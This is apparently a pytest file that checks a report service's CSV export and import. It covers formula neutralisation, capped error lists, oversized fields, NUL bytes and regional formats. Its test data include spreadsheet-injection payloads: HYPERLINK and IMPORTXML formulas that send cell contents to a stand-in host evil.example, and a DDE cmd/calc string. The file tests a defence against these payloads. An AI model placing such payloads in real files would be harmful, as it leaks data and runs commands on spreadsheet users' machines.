"""Report CSVs against hostile content: formulas neutralised on export and restored on import, errors capped,
files the CSV reader cannot follow refused with a line, never a 500."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_reports import DLI_A, NOVEMBER, institution

from gckey_tui.api import models_reports as r
from gckey_tui.api.client_reports import CsvImportError
from gckey_tui.service.reports import cycle
from gckey_tui.service.reports_admin import create_institution, grant_staff, import_roster
from gckey_tui.service.reports_csv import FORMULA_STARTS, MAX_LISTED_ERRORS, neutralise, restore

HOSTILE = {
    "family_name": '=HYPERLINK("http://evil.example/?"&B3,"Open")',
    "given_names": "+1+cmd|' /C calc'!A0",
    "program": "-2+3",
    "uci": "@SUM(1+1)",
}
HOSTILE_NOTE = '=IMPORTXML(CONCAT("http://evil.example/?", B2), "//a")'


def roster_line(student_id: str, **values: str) -> str:
    row = {"family_name": "Doe", "given_names": "Jo", "uci": "1234567890", "program": "Arts", **values}
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(
        [student_id, row["family_name"], row["given_names"], "2000-01-01", row["uci"], row["program"]]
    )
    return out.getvalue()


@pytest.fixture
async def hostile_report(context, make_account):
    """A report whose roster and notes start formulas; a principal signed in."""
    alice = await make_account("alice2026")
    create_institution(context, DLI_A, "College", "ON", "p@example.com", context.clock.now())
    roster = "student_id,family_name,given_names,date_of_birth,uci,program\n"
    roster += roster_line("S000001", **HOSTILE) + roster_line("+000002") + roster_line("-000003")
    assert import_roster(context, DLI_A, cycle(NOVEMBER), roster) == 3
    grant_staff(context, DLI_A, "alice2026", "principal")
    return alice.client


def cells(export: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export, newline="")))


async def test_export_neutralises_every_formula_start(hostile_report):
    client = hostile_report
    await client.set_student_status(DLI_A, NOVEMBER, "S000001", r.RowUpdate(status="no_show", note=HOSTILE_NOTE))
    await client.set_student_status(DLI_A, NOVEMBER, "+000002", r.RowUpdate(status="no_show", note="\rhidden"))
    rows = cells(await client.export_report(DLI_A, NOVEMBER))
    for row in rows:
        for name, value in row.items():
            assert value[:1] not in FORMULA_STARTS, (name, value)
    first = next(row for row in rows if row["student_id"] == "S000001")
    assert first["family_name"] == "'" + HOSTILE["family_name"]
    assert first["note"] == "'" + HOSTILE_NOTE
    assert {row["student_id"] for row in rows} == {"S000001", "'+000002", "'-000003"}


async def test_our_own_export_imports_back_to_the_original_values(hostile_report):
    client = hostile_report
    await client.set_student_status(DLI_A, NOVEMBER, "S000001", r.RowUpdate(status="no_show", note=HOSTILE_NOTE))
    await client.set_student_status(DLI_A, NOVEMBER, "+000002", r.RowUpdate(status="no_show", note="'=quoted"))
    await client.set_student_status(DLI_A, NOVEMBER, "-000003", r.RowUpdate(status="no_show", note="-minus"))
    exported = await client.export_report(DLI_A, NOVEMBER)
    before = (await client.report(DLI_A, NOVEMBER)).rows
    edited = exported.replace("no_show", "full_time_studies")  # filled in a spreadsheet
    assert (await client.import_statuses(DLI_A, NOVEMBER, edited)).updated == 3
    after = (await client.report(DLI_A, NOVEMBER)).rows
    assert [(row.student_id, row.note) for row in after] == [(row.student_id, row.note) for row in before]
    assert {row.status for row in after} == {"full_time_studies"}


@given(st.text(max_size=12))
def test_restore_undoes_neutralise(value):
    assert restore(neutralise(value)) == value
    assert neutralise(value)[:1] not in FORMULA_STARTS


async def test_errors_are_capped_and_counted(context, make_account):
    alice = await make_account("alice2026")
    institution(context, username="alice2026", students=3)
    text = "student_id,status\n" + "S000001,full_time_studies\n" * 251  # 250 duplicates
    with pytest.raises(CsvImportError) as refused:
        await alice.client.import_statuses(DLI_A, NOVEMBER, text)
    assert len(refused.value.errors) == MAX_LISTED_ERRORS
    assert refused.value.error_count == 250
    assert [error.line for error in refused.value.errors] == list(range(3, 3 + MAX_LISTED_ERRORS))
    assert "250" in refused.value.message and "100" in refused.value.message


@pytest.mark.parametrize(
    ("text", "line", "field"),
    [
        ('student_id,status,note\nS000001,no_show,"' + "x" * 200_000 + '"\n', 2, "file"),
        ("student_id,status,note\nS000001,no_show,nul\x00here\n", 2, "note"),
    ],
    ids=["field over the CSV reader's limit", "NUL in a value"],
)
async def test_files_the_reader_cannot_follow_are_refused_with_a_line(context, make_account, text, line, field):
    alice = await make_account("alice2026")
    institution(context, username="alice2026", students=3)
    with pytest.raises(CsvImportError) as refused:
        await alice.client.import_statuses(DLI_A, NOVEMBER, text)
    assert (refused.value.errors[0].line, refused.value.errors[0].field) == (line, field)


async def test_old_mac_line_endings_import(context, make_account):
    alice = await make_account("alice2026")
    institution(context, username="alice2026", students=3)
    text = "student_id,status\rS000001,no_show\rS000002,no_show\r"
    assert (await alice.client.import_statuses(DLI_A, NOVEMBER, text)).updated == 2


def test_a_semicolon_separated_file_from_a_french_spreadsheet_is_read():
    from gckey_tui.service.reports_csv import parse_statuses

    parsed = parse_statuses("student_id;status;note\nS1;full_time_studies;Note, avec virgule\n", {"S1"})
    assert parsed.error_count == 0
    assert parsed.rows[0]["status"] == "full_time_studies" and parsed.rows[0]["note"] == "Note, avec virgule"


def test_a_wrong_status_names_the_eleven():
    from gckey_tui.i18n import translate
    from gckey_tui.service.reports_csv import parse_statuses

    parsed = parse_statuses("student_id,status\nS1,NO_SHOW\n", {"S1"})
    message = translate(parsed.errors[0].message, "en")
    assert "academic_break" in message and "unknown" in message
